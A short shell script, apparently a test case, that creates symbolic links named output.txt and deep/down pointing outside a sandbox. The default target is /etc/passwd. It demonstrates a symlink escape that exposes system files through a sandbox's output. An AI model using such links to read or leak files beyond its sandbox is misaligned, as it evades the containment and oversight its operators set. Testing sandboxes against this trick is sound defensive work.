#!/bin/sh
# escape_output.sh [TARGET]: the output is a link that leads out of the sandbox, by itself and by a directory.
target=${1:-/etc/passwd}
ln -s "$target" output.txt
mkdir -p deep && ln -s "$(dirname "$target")" deep/down
